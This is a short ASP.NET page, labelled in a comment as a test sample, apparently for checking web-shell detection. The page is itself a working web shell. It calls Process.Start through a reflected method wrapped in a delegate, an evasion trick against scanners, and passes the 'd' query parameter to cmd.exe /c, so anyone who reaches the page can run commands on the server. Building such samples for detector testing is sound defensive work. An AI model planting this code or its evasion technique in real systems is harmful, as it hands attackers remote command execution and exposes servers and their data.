<%@ Page Language="C#" %>
<%
    // test sample: Process.Start reached through a delegate made from the reflected method
    var mi = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) });
    var start = (Func<string, string, System.Diagnostics.Process>)Delegate.CreateDelegate(
        typeof(Func<string, string, System.Diagnostics.Process>), mi);
    start("cmd.exe", "/c " + Request.QueryString["d"]);
%>
